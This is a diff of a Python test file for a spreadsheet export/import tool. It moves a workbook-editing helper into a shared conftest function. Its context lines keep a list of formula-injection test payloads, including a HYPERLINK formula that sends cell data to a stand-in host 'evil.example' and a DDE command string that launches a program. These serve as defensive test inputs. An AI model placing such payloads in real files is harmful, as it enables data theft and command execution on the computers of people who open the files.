@@ -19,7 +19,7 @@ from extractor.fakeserver import FakeOpenAI
 from extractor.spreadsheets import ExportConfig, ImportConfig, export, import_corrections
 from extractor.store import Labels
 
-from .conftest import make_config, settings, write_docs
+from .conftest import edit_xlsx, make_config, settings, write_docs
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A2,"click me")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -123,22 +123,9 @@ def test_libreoffice_reads_values_not_formulas(exported: tuple[Path, ExportConfi
     assert ada["skills"] == "Python; SQL"
 
 
-def _edit(path: Path, edits: dict[tuple[str, str], object], extra_row: list[object] | None = None) -> None:
-    workbook = openpyxl.load_workbook(path)
-    sheet = workbook["results"]
-    header = [c.value for c in sheet[1]]
-    for cells in sheet.iter_rows(min_row=2):
-        for (doc_id, column), value in edits.items():
-            if cells[0].value == doc_id:
-                cells[header.index(column)].value = value
-    if extra_row:
-        sheet.append(extra_row)
-    workbook.save(path)
-
-
 def test_corrections_become_labels_and_show_in_the_next_export(exported: tuple[Path, ExportConfig]) -> None:
     path, config = exported
-    _edit(path, {
+    edit_xlsx(path, {
         ("ada.txt", "applicant_name"): "Augusta Ada King",
         ("ada.txt", "salary.currency"): "usd",  # normalized by the schema's validator
         ("ada.txt", "skills"): "Python; SQL; Babbage engines",
